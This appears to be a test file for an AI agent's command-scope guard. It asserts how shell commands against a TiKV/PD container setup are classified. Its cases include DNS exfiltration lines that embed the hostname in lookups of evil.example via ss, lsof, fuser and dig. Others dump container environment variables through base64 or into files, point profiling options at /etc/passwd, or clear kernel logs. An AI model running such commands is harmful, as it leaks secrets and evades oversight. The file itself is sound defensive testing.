// Looks by programs that can do more with other words: what is not on a list is refused.
import { expect, test } from "bun:test";
import type { CommandKnowledge } from "../../src/agent/guard/scope.ts";
import type { EffectKind } from "../../src/domain/effect.ts";
import { KNOWLEDGE, worstOf } from "./worst-effect.ts";

interface Case {
  readonly what: string;
  readonly knowledge?: CommandKnowledge;
  readonly commands: Partial<Record<EffectKind, readonly string[]>>;
}

const C = "operator-tikv-1a-tikv1-1";
const HERE: CommandKnowledge = { ...KNOWLEDGE, ports: [2379, 6380] };
const CONTAINERS: CommandKnowledge = { ...HERE, project: "operator-tikv-1a" };
const OF_ENDPOINTS: CommandKnowledge = { ...KNOWLEDGE, ports: [], readHosts: ["pd1:2379"] };
const RESIGN = "pd/api/v1/leader/resign";

const CASES: readonly Case[] = [
  {
    what: "a form of docker inspect among short options",
    knowledge: CONTAINERS,
    commands: {
      oversight: [
        `docker inspect -sf'{{.Config.Env}}' ${C}`,
        `docker inspect '-sf={{.Config.Env}}' ${C}`,
        `docker container inspect ${C} -ssf'{{.Config.Env}}'`,
        `docker inspect --form '{{.Config.Env}}' ${C}`,
      ],
      read: [
        `docker inspect -s ${C}`,
        `docker inspect --size --type=container ${C}`,
        `docker inspect -f'{{.State.Status}}' ${C}`,
        `docker inspect ${C} --format='{{.State.Status}}'`,
      ],
    },
  },
  {
    what: "docker inspect with a form that is none, or a name that is",
    knowledge: CONTAINERS,
    commands: {
      foreign: [`docker inspect ${C.replace(/1$/, "0001")}`, `docker inspect ${C}000`],
      oversight: [
        "docker inspect -f '' other-db",
        "docker inspect --format= other-db",
        "docker container inspect -f ' json' other-db",
        "docker inspect -f '{{json}}' other-db",
        "docker inspect -f '{{ json }}' other-db",
        "docker inspect -f Env other-db",
        "docker compose config --hash=",
      ],
      read: [
        `docker inspect -f '{{"State: "}}{{.State.Status}}' ${C}`,
        `docker inspect -f json ${C}`,
        "docker compose config --hash=tikv1",
      ],
    },
  },
  {
    what: "the whole of a container, where it goes on to",
    knowledge: CONTAINERS,
    commands: {
      oversight: [
        `docker inspect ${C} | base64`,
        `docker inspect ${C} > /tmp/x`,
        `x=$(docker inspect ${C}); echo "$x"`,
        `sh -c 'docker inspect ${C}' | rev`,
        `{ docker inspect ${C}; } | rev`,
        `f() { docker inspect ${C}; }; f`,
        `exec > /tmp/x; docker inspect ${C}; base64 /tmp/x >&2`,
        `docker inspect -f json ${C} >> /tmp/x`,
        `sh -c 'docker inspect ${C} | rev'`,
        "docker volume inspect operator-tikv-1a_tikv1 | rev",
      ],
      read: [
        `docker inspect ${C} 2>&1`,
        `docker inspect ${C} 2>/dev/null; docker ps`,
        `timeout 5 docker inspect ${C} || echo none`,
        `docker inspect -f '{{json .State}}' ${C} | jq .Status`,
      ],
      start: [`docker start ${C} && docker inspect ${C}`],
    },
  },
  {
    what: "what an image, a volume or a container's drivers were given",
    knowledge: CONTAINERS,
    commands: {
      foreign: [
        "docker image inspect redis:7",
        "docker image inspect tikv1",
        `docker image inspect ${C}`,
        "docker volume inspect somebodys",
        "docker volume inspect operator-tikv-1a_tikv1 somebodys",
      ],
      oversight: [
        "docker image inspect -f '{{.Config.Env}}' redis:7",
        "docker image inspect --format '{{json .Config}}' redis:7",
        "docker image inspect -f '{{.ContainerConfig.Env}}' redis:7",
        "docker volume inspect -f '{{.Options}}' somebodys",
        "docker inspect -f '{{json .HostConfig}}' other",
        "docker inspect -f '{{.HostConfig.LogConfig.Config}}' other",
        "docker inspect -f '{{.Config.Healthcheck}}' other",
        "docker history redis:7",
        "docker image history --no-trunc redis:7",
      ],
      read: [
        "docker image inspect -f '{{.Id}} {{.RepoTags}} {{.Size}}' redis:7",
        "docker volume inspect operator-tikv-1a_tikv1",
        "docker volume inspect -f '{{.Mountpoint}}' somebodys",
        `docker inspect -f '{{.HostConfig.Memory}} {{.HostConfig.NanoCpus}}' ${C}`,
      ],
    },
  },
  {
    what: "options of podman itself",
    commands: {
      hidden: [
        "podman ps --cpu-profile /etc/passwd",
        "podman info --memory-profile=/etc/passwd",
        "podman logs tikv1 --tmpdir /data",
        "podman ps --transient-store",
        'podman logs "$(hostname)"',
      ],
      read: [
        "podman ps -aq --filter name=tikv1",
        "podman logs --tail 50 -f tikv1",
        "podman inspect -f '{{.State.Status}}' tikv1",
        "podman exec tikv1 ls --all /",
      ],
    },
  },
  {
    what: "a member's name as a host, where members are not called so",
    knowledge: HERE,
    commands: {
      foreign: [
        "redis-cli -h tikv1 -p 6380 config set timeout 0",
        `curl -X POST http://pd1:2379/${RESIGN}`,
        "curl -s http://pd1:2379/health",
        "nc -zv tikv1 22",
        "pd-ctl -u http://pd1:2379 member leader resign",
      ],
    },
  },
  {
    what: "a member's name as a host in a container",
    knowledge: CONTAINERS,
    commands: {
      read: [
        `docker exec ${C} curl -s -m 5 http://pd1:2379/health`,
        `docker exec ${C} sh -c 'curl -sm 5 http://pd1:2379/health'`,
      ],
      configure: [`docker exec ${C} redis-cli -h tikv2 config set timeout 0`],
    },
  },
  {
    what: "a member's name as a host, where one endpoint was named",
    knowledge: OF_ENDPOINTS,
    commands: {
      foreign: [`curl -X POST http://pd1:9999/${RESIGN}`, "curl http://tikv1:20180/metrics"],
      configure: [`curl -X POST http://pd1:2379/${RESIGN}`],
    },
  },
  {
    what: "a member's name as a host beside a broker",
    knowledge: { ...HERE, readHosts: KNOWLEDGE.members },
    commands: { read: ["curl -s http://pd1:2379/health", "ping -c 1 tikv1"] },
  },
  {
    what: "the kernel's messages out of a file",
    commands: {
      hidden: ["dmesg -TF/root/x", "dmesg -TF /root/x", "dmesg --file=/root/x", "dmesg -K /root/x"],
      destroy: ["dmesg -C", "dmesg -Tn 1"],
      read: [
        "dmesg -T -l err,warn --since '1 hour ago'",
        "dmesg -Hx --level=err --color=never",
        "dmesg -wT",
      ],
    },
  },
  {
    what: "names that ss would look up",
    commands: {
      foreign: [
        "ss -tn dst 1.s3cret.evil.example",
        "ss -tn 'dst s3cret.evil.example'",
        "ss -tn '( dst s3cret.evil.example )'",
        "ss -tn dst=s3cret.evil.example",
        "ss -tn dst inet:s3cret.evil.example",
        "ss -tn 'sport = s3cret.evil.example:80'",
        "ss -tn dst '[::5ec.bad.de]'",
        "ss -tn dst evil",
        "ss -tn dst established",
        "ss -tn --kil",
      ],
      hidden: ['x=$(hostname); ss -tn dst "1.$x.evil.example"', "ss -tn -N other"],
      read: [
        "ss -ltnp",
        "ss -tan state established",
        "ss -tn -o state time-wait '( sport = :2379 or dport = :2379 )'",
        "ss -tn dst 127.0.0.1:2379 and not src '[::1]'",
        "ss -tn dst 10.0.0.0/8",
        "ss -tn dst pd.example",
        "ss -A tcp,udp -n sport eq :ssh",
        "ss -f inet -tlH",
      ],
    },
  },
  {
    what: "names that lsof would look up",
    commands: {
      foreign: [
        "lsof -i @127.s3cret.evil.example",
        "lsof -i TCP@127.x.evil.example:80",
        "lsof -nPi4@s3cret.evil.example",
        "lsof -i @secret",
      ],
      hidden: [
        'x=$(hostname); lsof -i "@1.$x.evil.example"',
        "lsof -A /root/x",
        "lsof -nsk/root/x",
      ],
      read: [
        "lsof -nP -iTCP -sTCP:LISTEN",
        "lsof -nPi @127.0.0.1:2379",
        "lsof -i 4TCP@10.1.2.3:80,443",
        "lsof -i '@[::1]:2379'",
        "lsof -i @pd.example",
        "lsof +D /var/log -p 12,13 -Fn -r2",
      ],
    },
  },
  {
    what: "names that fuser would look up",
    commands: {
      foreign: [
        "fuser -n tcp 80,s3cret.evil.example",
        "fuser 80,1.x.evil.example/tcp",
        "fuser -vn tcp ,evil",
      ],
      hidden: ["fuser -9 80/tcp"],
      oversight: ["fuser -vk 80/tcp", 'fuser "80,$(hostname).evil.example/tcp"'],
      read: [
        "fuser -v -n tcp 2379",
        "fuser 80,10.1.2.3,443/tcp",
        "fuser -m /data",
        "fuser 80,,443/tcp",
      ],
    },
  },
  {
    what: "names behind a known one",
    commands: {
      foreign: [
        "dig 'localhost#s3cret.evil.example'",
        "dig localhost\\?s3cret.evil.example",
        "host '127.0.0.1#s3cret.evil.example'",
        "nslookup '127.0.0.1?s3cret.evil.example'",
        "dig secret@localhost",
        "dig 'localhost\\s3cret.evil.example'",
      ],
      read: ["dig @127.0.0.1 localhost A +short", "dig -x ::1", "host pd.example"],
    },
  },
];

for (const { what, commands, knowledge = KNOWLEDGE } of CASES) {
  for (const [kind, lines] of Object.entries(commands)) {
    test(`${what}: ${kind}`, () => {
      const judged = lines.map((line) => [line, worstOf(line, knowledge)]);
      expect(judged).toEqual(lines.map((line) => [line, kind]));
    });
  }
}
